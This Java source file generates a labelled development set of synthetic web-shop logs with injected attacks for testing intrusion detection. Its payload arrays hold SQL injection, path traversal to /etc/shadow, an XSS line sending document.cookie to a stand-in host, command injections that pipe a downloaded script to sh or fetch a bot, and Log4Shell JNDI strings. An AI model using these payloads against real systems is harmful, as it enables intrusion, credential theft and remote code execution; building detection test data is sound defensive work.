package routes.tools;

import java.io.BufferedWriter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * A labelled development set for measuring detection: realistic normal traffic of a small web shop (nginx access
 * log, SSH logins to a bastion, UFW firewall lines, with internet background noise) and injected attacks (SSH
 * brute force, port scans, SQL injection, XSS, path traversal, command injection, Log4Shell, data exfiltration),
 * as raw lines in time order, with a label per line: {@code 1 CLASS} for a line an attack produced (CLASS is
 * bruteforce, scan, sqli, xss, traversal, cmdi, log4shell or exfiltration), {@code 0} otherwise. The same seed
 * gives the same set. Run it with {@code java -jar caravan.jar devset OUT_DIR [--seed N] [--hours H]}.
 */
public final class DevSetGenerator {

    private static final Instant START = Instant.parse("2026-11-23T00:00:00Z");
    private static final DateTimeFormatter ACCESS_TIME = DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z",
            Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter SYSLOG_TIME = DateTimeFormatter.ofPattern("MMM d HH:mm:ss", Locale.ROOT)
            .withZone(ZoneOffset.UTC);
    private static final String[] BROWSERS = {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15",
            "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    };
    private static final String[] WORDS = {"shoes", "red dress", "laptop bag", "coffee", "gift card", "sale", "kids",
            "running", "winter coat", "headphones", "desk lamp", "yoga mat"};
    private static final String[] USERS = {"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
            "ivan", "judy", "deploy", "backup"};
    private static final String[] GUESSES = {"root", "admin", "test", "oracle", "ubuntu", "user", "guest", "pi",
            "postgres", "ftpuser", "git", "support", "administrator", "mysql", "www"};
    private static final String[] SQLI = {"id=1'%20OR%20'1'='1", "id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "id=1;%20DROP%20TABLE%20orders--", "q=%27%20AND%20SLEEP(5)--", "id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,@@version--",
            "id=1%27%20AND%20extractvalue(1,concat(0x7e,database()))--"};
    private static final String[] XSS = {"q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
            "q=%3Csvg/onload=fetch('//198.51.100.66/'+document.cookie)%3E", "name=%3Ciframe%20src=javascript:alert(1)%3E"};
    private static final String[] TRAVERSAL = {"/static/../../../../etc/passwd", "/download?file=../../../../etc/shadow",
            "/images/%2e%2e/%2e%2e/%2e%2e/etc/hosts", "/download?file=..%2f..%2f..%2f..%2fproc/self/environ",
            "/static/..%5c..%5c..%5cwindows/win.ini"};
    private static final String[] COMMANDS = {"/ping?host=127.0.0.1;cat%20/etc/passwd", "/ping?host=8.8.8.8|id",
            "/tools/lookup?domain=example.com%60whoami%60", "/ping?host=$(curl%20http://198.51.100.66/x.sh|sh)",
            "/cgi-bin/status?cmd=;wget%20http://198.51.100.66/bot%20-O%20/tmp/b"};
    private static final String[] TOOLS = {"sqlmap/1.8.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "curl/8.5.0",
            "python-requests/2.32.3", "Go-http-client/1.1"};

    /** A raw line, when it happened and the class of attack that produced it (null for none). */
    private record Line(Instant time, String text, String attack) {
    }

    private final Random random;
    private final int hours;
    private final List<Line> lines = new ArrayList<>();
    private final List<String> clients = new ArrayList<>();
    private final List<String> offices = new ArrayList<>();

    public DevSetGenerator(long seed, int hours) {
        this.random = new Random(seed);
        this.hours = hours;
        for (int i = 0; i < 400; i++) {
            clients.add(address());
        }
        for (int i = 0; i < 20; i++) {
            offices.add("198.51.100." + (10 + i));
        }
    }

    /** Writes the log and its labels (one line each); returns how many lines, and how many are malicious. */
    public long[] write(Path log, Path labels) throws IOException {
        generate();
        lines.sort(Comparator.comparing(Line::time));
        long malicious = 0;
        try (BufferedWriter out = Files.newBufferedWriter(log, StandardCharsets.UTF_8);
             BufferedWriter labelOut = Files.newBufferedWriter(labels, StandardCharsets.UTF_8)) {
            for (Line line : lines) {
                out.write(line.text());
                out.write('\n');
                labelOut.write(line.attack() != null ? "1 " + line.attack() + "\n" : "0\n");
                malicious += line.attack() != null ? 1 : 0;
            }
        }
        return new long[]{lines.size(), malicious};
    }

    private void generate() {
        long seconds = hours * 3600L;
        for (long s = 0; s < seconds; s++) {
            double daytime = 0.5 + 0.5 * Math.sin(Math.PI * ((s / 3600.0) % 24 - 6) / 12);
            int requests = poisson(1 + 4 * daytime);
            for (int r = 0; r < requests; r++) {
                normalWeb(at(s));
            }
            if (random.nextDouble() < 0.01 + 0.05 * daytime) {
                normalLogin(at(s));
            }
            for (int c = poisson(2); c > 0; c--) {
                outbound(at(s));
            }
            if (random.nextDouble() < 0.2) {
                backgroundNoise(at(s));
            }
        }
        for (int campaign = 0; campaign < hours * 3; campaign++) {
            long s = (long) (random.nextDouble() * (seconds - 900));
            switch (campaign % 6) {
                case 0 -> bruteForce(s);
                case 1 -> portScan(s);
                case 2, 3 -> webAttack(s);
                case 4 -> exfiltration(s);
                default -> webAttack(s);
            }
        }
    }

    // ---- normal traffic ----

    private void normalWeb(Instant time) {
        String client = clients.get((int) Math.abs(random.nextGaussian() * 80) % clients.size());
        String agent = BROWSERS[(client.hashCode() & 0x7fffffff) % BROWSERS.length];
        int kind = random.nextInt(100);
        String method = "GET";
        String path;
        int status = 200;
        long bytes;
        double millis = lognormal(Math.log(18), 0.6);
        if (kind < 30) {
            String[] assets = {"/static/js/app.4f2a9c.js", "/static/css/site.css", "/images/p" + random.nextInt(500)
                    + ".jpg", "/favicon.ico", "/static/fonts/inter.woff2"};
            path = assets[random.nextInt(assets.length)];
            bytes = (long) lognormal(Math.log(40_000), 0.8);
            millis /= 3;
            if (random.nextDouble() < 0.35) {
                status = 304;
                bytes = 0;
            }
        } else if (kind < 55) {
            path = random.nextBoolean() ? "/products/" + random.nextInt(2000) : "/";
            bytes = (long) lognormal(Math.log(14_000), 0.3);
            if (random.nextDouble() < 0.03) {
                status = 404;
                bytes = 1_245;
            }
        } else if (kind < 70) {
            path = "/api/v1/items?page=" + (1 + random.nextInt(20)) + "&size=20";
            bytes = (long) lognormal(Math.log(4_500), 0.4);
            millis *= 2;
        } else if (kind < 80) {
            path = "/search?q=" + WORDS[random.nextInt(WORDS.length)].replace(" ", "+");
            bytes = (long) lognormal(Math.log(9_000), 0.4);
            millis *= 3;
        } else if (kind < 87) {
            method = "POST";
            path = random.nextBoolean() ? "/api/v1/cart" : "/login";
            status = path.equals("/login") ? (random.nextDouble() < 0.12 ? 401 : 302) : 201;
            bytes = (long) lognormal(Math.log(600), 0.3);
            millis *= 4;
        } else if (kind < 95) {
            path = "/blog/" + WORDS[random.nextInt(WORDS.length)].replace(' ', '-') + "-guide";
            bytes = (long) lognormal(Math.log(22_000), 0.3);
        } else {
            path = random.nextBoolean() ? "/account/orders" : "/checkout";
            bytes = (long) lognormal(Math.log(11_000), 0.3);
            millis *= 6;
        }
        if (random.nextDouble() < 0.002) {
            status = 500;
            bytes = 612;
        }
        web(time, client, method, path, status, bytes, millis, agent, null);
    }

    private void normalLogin(Instant time) {
        String user = USERS[random.nextInt(USERS.length)];
        String from = offices.get((user.hashCode() & 0x7fffffff) % offices.size());
        if (random.nextDouble() < 0.15) {
            offices.set(random.nextInt(offices.size()), "198.51.100." + (10 + random.nextInt(40)));
        }
        int port = 40_000 + random.nextInt(20_000);
        if (random.nextDouble() < 0.1) {
            ssh(time, "Failed password for " + user + " from " + from + " port " + port + " ssh2", null);
            time = time.plusSeconds(4 + random.nextInt(10));
        }
        boolean key = random.nextDouble() < 0.7;
        ssh(time, "Accepted " + (key ? "publickey" : "password") + " for " + user + " from " + from + " port " + port
                + " ssh2" + (key ? ": ED25519 SHA256:k3Jd8sN2mQ0xVb7" : ""), null);
    }

    private void outbound(Instant time) {
        int[] ports = {443, 443, 443, 80, 53, 123, 443, 22};
        int port = ports[random.nextInt(ports.length)];
        firewall(time, "ALLOW", "10.0.0." + (10 + random.nextInt(30)), "93.184." + random.nextInt(256) + "."
                + random.nextInt(256), port, port == 53 || port == 123 ? "UDP" : "TCP", 60 + random.nextInt(1400),
                null);
    }

    /** The internet's background knocking: single probes of common ports, denied. */
    private void backgroundNoise(Instant time) {
        int[] ports = {22, 23, 80, 443, 445, 3389, 8080, 5900, 1433};
        firewall(time, "BLOCK", address(), "10.0.0.5", ports[random.nextInt(ports.length)], "TCP", 40, null);
    }

    // ---- attacks ----

    private void bruteForce(long s) {
        String attacker = address();
        int attempts = 20 + random.nextInt(100);
        double gap = 0.3 + random.nextDouble() * 3;
        for (int i = 0; i < attempts; i++) {
            Instant time = at(s + (long) (i * gap));
            String user = random.nextDouble() < 0.3 ? "root" : GUESSES[random.nextInt(GUESSES.length)];
            int port = 30_000 + random.nextInt(30_000);
            if (user.equals("root")) {
                ssh(time, "Failed password for root from " + attacker + " port " + port + " ssh2", "bruteforce");
            } else if (random.nextBoolean()) {
                ssh(time, "Invalid user " + user + " from " + attacker + " port " + port, "bruteforce");
            } else {
                ssh(time, "Failed password for invalid user " + user + " from " + attacker + " port " + port
                        + " ssh2", "bruteforce");
            }
        }
        if (random.nextDouble() < 0.2) {
            ssh(at(s + (long) (attempts * gap) + 2), "Accepted password for root from " + attacker + " port "
                    + (30_000 + random.nextInt(30_000)) + " ssh2", "bruteforce");
        }
    }

    private void portScan(long s) {
        String attacker = address();
        boolean slow = random.nextDouble() < 0.3;
        int ports = slow ? 40 + random.nextInt(60) : 100 + random.nextInt(300);
        double gap = slow ? 5 + random.nextDouble() * 5 : 0.05;
        String target = "10.0.0." + (5 + random.nextInt(3));
        for (int i = 0; i < ports; i++) {
            int port = random.nextDouble() < 0.5 ? 1 + random.nextInt(1024) : 1 + random.nextInt(65_535);
            firewall(at(s + (long) (i * gap)), "BLOCK", attacker, target, port, "TCP", 40 + random.nextInt(4) * 4,
                    "scan");
        }
    }

    private void webAttack(long s) {
        String attacker = address();
        String agent = random.nextDouble() < 0.6 ? TOOLS[random.nextInt(TOOLS.length)]
                : BROWSERS[random.nextInt(BROWSERS.length)];
        int requests = 5 + random.nextInt(55);
        int family = random.nextInt(5);
        String attack = switch (family) {
            case 0 -> "sqli";
            case 1 -> "xss";
            case 2 -> "traversal";
            case 3 -> "cmdi";
            default -> "log4shell";
        };
        for (int i = 0; i < requests; i++) {
            Instant time = at(s + i * (1 + random.nextInt(5)));
            String path;
            String ua = agent;
            switch (family) {
                case 0 -> path = (random.nextBoolean() ? "/products?" : "/search?") + SQLI[random.nextInt(SQLI.length)];
                case 1 -> path = "/search?" + XSS[random.nextInt(XSS.length)];
                case 2 -> path = TRAVERSAL[random.nextInt(TRAVERSAL.length)];
                case 3 -> path = COMMANDS[random.nextInt(COMMANDS.length)];
                default -> {
                    path = random.nextBoolean() ? "/" : "/api/v1/items?q=%24%7Bjndi:ldap://198.51.100.66:1389/a%7D";
                    ua = "${jndi:ldap://198.51.100.66:1389/Basic/Command/Base64/" + Integer.toHexString(random.nextInt())
                            + "}";
                }
            }
            int[] statuses = {200, 400, 403, 404, 500};
            int status = statuses[random.nextInt(statuses.length)];
            web(time, attacker, "GET", path, status, status == 200 ? (long) lognormal(Math.log(3_000), 1) : 300
                    + random.nextInt(900), lognormal(Math.log(25), 0.8), ua, attack);
        }
    }

    private void exfiltration(long s) {
        String client = address();
        String agent = random.nextBoolean() ? BROWSERS[random.nextInt(4)] : TOOLS[2];
        int downloads = 2 + random.nextInt(6);
        for (int i = 0; i < downloads; i++) {
            String path = random.nextBoolean() ? "/api/v1/export?table=customers&format=csv&limit=1000000"
                    : "/backup/db-2026-11-2" + random.nextInt(3) + ".sql.gz";
            web(at(s + i * 40L), client, "GET", path, 200, (long) lognormal(Math.log(300_000_000), 0.5),
                    lognormal(Math.log(40_000), 0.4), agent, "exfiltration");
        }
    }

    // ---- line formats ----

    private void web(Instant time, String client, String method, String path, int status, long bytes, double millis,
                     String agent, String attack) {
        lines.add(new Line(time, String.format(Locale.ROOT, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\" %.3f",
                client, ACCESS_TIME.format(time), method, path, status, bytes, agent, millis / 1000), attack));
    }

    private void ssh(Instant time, String message, String attack) {
        lines.add(new Line(time, SYSLOG_TIME.format(time) + " bastion sshd[" + (1000 + random.nextInt(30_000)) + "]: "
                + message, attack));
    }

    private void firewall(Instant time, String verdict, String source, String destination, int port, String protocol,
                          int length, String attack) {
        boolean inbound = verdict.equals("BLOCK");
        lines.add(new Line(time, String.format(Locale.ROOT, "%s gw1 kernel: [%d.%03d] [UFW %s] IN=%s OUT=%s SRC=%s DST=%s "
                        + "LEN=%d TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=%s SPT=%d DPT=%d", SYSLOG_TIME.format(time),
                time.getEpochSecond() - START.getEpochSecond(), random.nextInt(1000), verdict, inbound ? "eth0" : "",
                inbound ? "" : "eth0", source, destination, length, 40 + random.nextInt(24), random.nextInt(65_535),
                protocol, 1024 + random.nextInt(60_000), port), attack));
    }

    // ---- randomness ----

    private Instant at(long second) {
        return START.plusSeconds(second).plusMillis(random.nextInt(1000));
    }

    private String address() {
        String[] prefixes = {"203.0.113.", "192.0.2.", "198.51.100.", "100.64." + random.nextInt(64) + "."};
        return prefixes[random.nextInt(prefixes.length)] + (1 + random.nextInt(254));
    }

    private int poisson(double mean) {
        double limit = Math.exp(-mean);
        double product = random.nextDouble();
        int n = 0;
        while (product > limit) {
            product *= random.nextDouble();
            n++;
        }
        return n;
    }

    private double lognormal(double mu, double sigma) {
        return Math.exp(mu + sigma * random.nextGaussian());
    }
}
